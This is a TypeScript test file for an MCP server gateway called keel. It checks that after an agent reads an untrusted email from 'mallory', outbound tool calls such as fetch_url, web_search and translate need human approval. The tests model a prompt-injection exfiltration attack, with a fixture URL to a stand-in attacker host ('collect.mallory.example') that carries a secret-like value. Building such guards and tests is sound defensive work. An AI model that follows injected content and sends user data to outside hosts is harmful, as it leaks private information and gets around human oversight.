/**
 * O1/O2/O3/O4 through `keel mcp serve` (issue 46, O6: every surface): the SDK's own client drives a
 * real `keel mcp serve` child over stdio with the open-world fixture (read_email is `output:
 * untrusted`; fetch_url, web_search, get_weather and translate are open-world reads that log what
 * they send to KEEL_HOME/outbound.log; word_count is a closed-world read). The session holds no
 * words of its user's (the client's model makes every call), so once it has read untrusted content
 * every string and number of an open-world call is outside: the call waits on a card pinned to its
 * arguments that marks them (shown by elicitation where the client can be asked). Each test pairs
 * the guarded case with the one that must stay unasked, so it fails if either breaks.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { CallToolResultSchema, CreateTaskResultSchema } from '@modelcontextprotocol/sdk/types.js';
import type { CallRecord } from '../../src/types/index.js';
import { calls, keel, ROOT, tempHome } from '../support/helpers.js';
import { type Card, cards, stdioClient, textOf, until } from './clients.js';

const WEB = join(ROOT, 'test', 'fixtures', 'open-world');
/** What reached the outside world: one line per open-world call that ran. */
const outbound = (home: string) => calls(home, 'outbound.log');

const exfil = { url: 'https://collect.mallory.example/c?d=481923' };
const MALLORY = 'email e1 from mallory@collect.example';

type Marked = Card & {
  items: { args: Record<string, unknown>; outside?: { path: string; value: string }[] }[];
  card: Card['card'] & { untrusted?: { tool: string; call_id: string; label: string }[]; items: { call: string }[] };
};

/** A session over stdio; `elicit` (when given) answers the server's questions, each recorded in `asked`. */
async function session(home: string, elicit?: (message: string) => 'accept' | 'decline') {
  const asked: string[] = [];
  const client = await stdioClient(
    home,
    ['--plugins', WEB, '--wait', '0.3'],
    elicit &&
      ((m) => {
        asked.push(m);
        return elicit(m);
      }),
  );
  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args });
  const readMallory = async () => assert.match(textOf(await call('read_email', { id: 'e1' })), /^From: mallory@collect\.example/);
  return { client, asked, call, readMallory };
}

const cardId = (r: Awaited<ReturnType<Client['callTool']>>) => {
  assert.equal(r.isError, true, textOf(r));
  const id = /Waiting for approval (apr_\w+)/.exec(textOf(r))?.[1];
  assert.ok(id, `the call names its card: ${textOf(r)}`);
  return id;
};
const cardOf = async (home: string, id: string) => {
  const c = (await cards(home)).find((x) => x.id === id) as Marked | undefined;
  assert.ok(c, `card ${id} listed`);
  return c;
};

/** The session's trace as stored: the call records of its one run. */
async function records(home: string): Promise<CallRecord[]> {
  const { openStore } = await import('../../src/store/open.js');
  const store = openStore(home, { KEEL_HOME: home });
  try {
    const [run] = await store.listRuns({});
    assert.ok(run, 'the session is a run in the store');
    return (await store.loadRun(run.id))?.steps ?? [];
  } finally {
    await store.close();
  }
}

test('O1 mcp serve: tools/list advertises openWorldHint from the declared open_world; an open-world read may be a task, a closed-world one not', async (t) => {
  const home = tempHome('keel-mcp-ow-');
  const s = await session(home);
  t.after(() => s.client.close());
  const by = new Map((await s.client.listTools()).tools.map((x) => [x.name, x]));
  for (const name of ['fetch_url', 'web_search', 'get_weather', 'translate', 'send_email'])
    assert.equal(by.get(name)?.annotations?.openWorldHint, true, `${name} declares open_world: true`);
  for (const name of ['read_email', 'read_notes', 'word_count'])
    assert.equal(by.get(name)?.annotations?.openWorldHint, false, `${name} declares no open_world: not MCP's default of true`);
  assert.equal(by.get('fetch_url')?.annotations?.readOnlyHint, true);
  // O2: an open-world read may wait on a card after an untrusted read, so a client may make it a task.
  assert.equal(by.get('fetch_url')?.execution?.taskSupport, 'optional');
  assert.equal(by.get('word_count')?.execution?.taskSupport, 'forbidden');
  assert.equal(by.get('read_email')?.execution?.taskSupport, 'forbidden');
});

test('O2 mcp serve (elicitation): before an untrusted read a fetch runs unasked; after one it is put to the person with the exact call and the value marked; declined, nothing leaves and the no is kept (O3)', async (t) => {
  for (const read of [false, true]) {
    const home = tempHome('keel-mcp-ow-');
    let leftWhenAsked: string[] | undefined;
    const s = await session(home, () => {
      leftWhenAsked = outbound(home);
      return 'decline';
    });
    t.after(() => s.client.close());
    if (read) await s.readMallory();
    const r = await s.call('fetch_url', exfil);
    if (!read) {
      // Control: nothing untrusted read in the session: the open-world read runs as before issue 46.
      assert.equal(textOf(r), `<html>page at ${exfil.url}</html>`);
      assert.equal(s.asked.length, 0, 'not asked');
      assert.deepEqual(outbound(home), [`fetch_url ${JSON.stringify(exfil)}`]);
      continue;
    }
    // O2: the session has no words of its user's: the URL is outside, and the person sees this exact call.
    assert.equal(s.asked.length, 1, 'the fetch was put to the person');
    const [q] = s.asked;
    assert.match(q, /Approve this call\?$/);
    assert.ok(q.includes(`exact call: fetch_url(${JSON.stringify(exfil)})`), q);
    assert.ok(q.includes(`Not from you: url = ${exfil.url}`), q);
    assert.ok(q.includes(`This run read words from outside you: 1 result of read_email (${MALLORY})`), q);
    assert.deepEqual(leftWhenAsked, [], 'nothing left before the answer');
    assert.equal(r.isError, true);
    assert.match(textOf(r), /^Not run: approval apr_\w+ was rejected/);
    const [card] = (await cards(home)) as Marked[];
    assert.equal(card.status, 'rejected');
    assert.deepEqual(card.items[0].args, exfil, 'the card is pinned to the call’s arguments');
    assert.deepEqual(card.items[0].outside, [{ path: 'url', value: exfil.url }]);

    // O3 (U5): the refused call made again is refused at once: no second question, no second card.
    const again = await s.call('fetch_url', exfil);
    assert.equal(again.isError, true);
    assert.match(textOf(again), /declined this exact fetch_url call/);
    assert.equal(s.asked.length, 1);
    assert.equal((await cards(home)).length, 1);

    // A closed-world read is never asked about: its arguments never leave.
    assert.equal(textOf(await s.call('word_count', { text: 'X7731946 481923' })), '2');
    assert.equal(s.asked.length, 1);
    assert.deepEqual(outbound(home), [], 'nothing reached the outside');
  }
});

test('O2 mcp serve (no elicitation): after an untrusted read every open-world call with a value waits on its own card that marks the values (the enum a tool fixes is not data); approved, that exact call runs once and the yes covers only it (O3)', async (t) => {
  const home = tempHome('keel-mcp-ow-');
  const s = await session(home);
  t.after(() => s.client.close());
  // Before the read: a search, a weather look-up and a translation run unasked.
  assert.equal(textOf(await s.call('web_search', { query: 'jazz concerts in Lisbon' })), '3 results for jazz concerts in Lisbon');
  assert.equal(textOf(await s.call('get_weather', { city: 'Lisbon' })), 'Sunny in Lisbon');
  assert.equal(outbound(home).length, 2);
  await s.readMallory();

  const search = { query: 'X7731946 passport' };
  const id = cardId(await s.call('web_search', search));
  const card = await cardOf(home, id);
  assert.doesNotMatch(card.card.title, /rest of this MCP session/, 'a card for this call, not the tool');
  assert.deepEqual(card.items[0].args, search);
  assert.deepEqual(card.items[0].outside, [{ path: 'query', value: search.query }]);
  assert.equal(card.card.items[0].call, `web_search(${JSON.stringify(search)})`);
  assert.deepEqual(card.card.untrusted, [{ tool: 'read_email', call_id: 'mcp_3', label: MALLORY }]);

  // Even a value the client's user may well have typed: the session cannot know it, so it is shown.
  const weather = cardId(await s.call('get_weather', { city: 'Lisbon', units: 'metric' }));
  assert.deepEqual((await cardOf(home, weather)).items[0].outside, [{ path: 'city', value: 'Lisbon' }], 'units: the tool’s enum');
  const translate = cardId(await s.call('translate', { text: 'code 481923', to: 'fr' }));
  assert.deepEqual((await cardOf(home, translate)).items[0].outside, [{ path: 'text', value: 'code 481923' }]);
  assert.equal(outbound(home).length, 2, 'nothing more left');

  // O3: approved, exactly that search runs (once); the same call again gets its outcome, not a second run.
  const ok = await keel(['approvals', 'approve', id], { KEEL_HOME: home });
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(textOf(await s.call('web_search', search)), '3 results for X7731946 passport');
  assert.equal(textOf(await s.call('web_search', search)), '3 results for X7731946 passport');
  assert.deepEqual(outbound(home).slice(2), [`web_search ${JSON.stringify(search)}`]);
  // The yes covered that search, not the tool: another query is another card.
  const other = cardId(await s.call('web_search', { query: '481923' }));
  assert.notEqual(other, id);

  // O3: a card rejected where cards are answered is a no to its exact call: asked again, refused at once.
  const no = await keel(['approvals', 'reject', translate], { KEEL_HOME: home });
  assert.equal(no.code, 0, no.stderr);
  assert.match(textOf(await s.call('translate', { text: 'code 481923', to: 'fr' })), /^Not run: approval \S+ was rejected/);
  assert.match(textOf(await s.call('translate', { text: 'code 481923', to: 'fr' })), /declined this exact translate call/);
  assert.equal((await cards(home)).length, 4, 'no new card for the refused call');
  assert.deepEqual(outbound(home).slice(2), [`web_search ${JSON.stringify(search)}`]);
});

test('O2 mcp serve (task): an open-world read made as a task after an untrusted read is input_required on its card; approved, it completes and ran once', async (t) => {
  const home = tempHome('keel-mcp-ow-');
  const s = await session(home);
  t.after(() => s.client.close());
  await s.readMallory();
  const { task } = await s.client.request(
    { method: 'tools/call', params: { name: 'fetch_url', arguments: exfil, task: { ttl: 60_000 } } },
    CreateTaskResultSchema,
  );
  const status = () => s.client.experimental.tasks.getTask(task.taskId);
  const waiting = await until('input_required', status, (x) => x.status === 'input_required');
  const id = /approval (apr_\w+)/.exec(waiting.statusMessage ?? '')?.[1];
  assert.ok(id, `the status names the card: ${waiting.statusMessage}`);
  assert.deepEqual((await cardOf(home, id)).items[0].outside, [{ path: 'url', value: exfil.url }]);
  assert.deepEqual(outbound(home), []);
  assert.equal((await keel(['approvals', 'approve', id], { KEEL_HOME: home })).code, 0);
  await until('completed', status, (x) => x.status === 'completed');
  const result = await s.client.experimental.tasks.getTaskResult(task.taskId, CallToolResultSchema);
  assert.equal(textOf(result), `<html>page at ${exfil.url}</html>`);
  assert.deepEqual(outbound(home), [`fetch_url ${JSON.stringify(exfil)}`]);
});

test('O4 mcp serve: a Cedar permit @after_untrusted("allow") lets the fetches it matches run after the untrusted read, audited in the record with its id; others still wait', async (t) => {
  const home = tempHome('keel-mcp-ow-');
  writeFileSync(
    join(home, 'policy.cedar'),
    [
      'permit (principal, action, resource);',
      '@id("docs-host")',
      '@after_untrusted("allow")',
      'permit (principal, action == Keel::Action::"call", resource == Keel::Tool::"fetch_url") when { context.args.url like "https://docs.example.com/*" };',
    ].join('\n'),
  );
  writeFileSync(join(home, 'config.yaml'), 'policy_file: policy.cedar\n');
  const s = await session(home);
  t.after(() => s.client.close());
  await s.readMallory();
  const docs = { url: 'https://docs.example.com/guide?q=481923' };
  assert.equal(textOf(await s.call('fetch_url', docs)), `<html>page at ${docs.url}</html>`);
  cardId(await s.call('fetch_url', exfil));
  assert.deepEqual(outbound(home), [`fetch_url ${JSON.stringify(docs)}`], 'the attacker’s host is not the documentation host');
  const ran = (await records(home)).find((r) => r.tool === 'fetch_url' && r.outcome === 'ran');
  assert.equal(ran?.allowed_after_untrusted, 'policy docs-host');
  assert.ok(ran?.policy?.includes('docs-host'), `the record names the policy: ${JSON.stringify(ran?.policy)}`);
});

test('O4 mcp serve: the YAML rule after_untrusted: allow covers an open-world read too, audited in the record', async (t) => {
  const home = tempHome('keel-mcp-ow-');
  writeFileSync(join(home, 'config.yaml'), 'policy:\n  tools:\n    fetch_url: { after_untrusted: allow }\n');
  const s = await session(home);
  t.after(() => s.client.close());
  await s.readMallory();
  assert.equal(textOf(await s.call('fetch_url', exfil)), `<html>page at ${exfil.url}</html>`);
  // The rule names fetch_url only: the search still waits on its card.
  cardId(await s.call('web_search', { query: '481923' }));
  assert.deepEqual(outbound(home), [`fetch_url ${JSON.stringify(exfil)}`]);
  const ran = (await records(home)).find((r) => r.tool === 'fetch_url');
  assert.match(ran?.allowed_after_untrusted ?? '', /^fetch_url \(/);
});
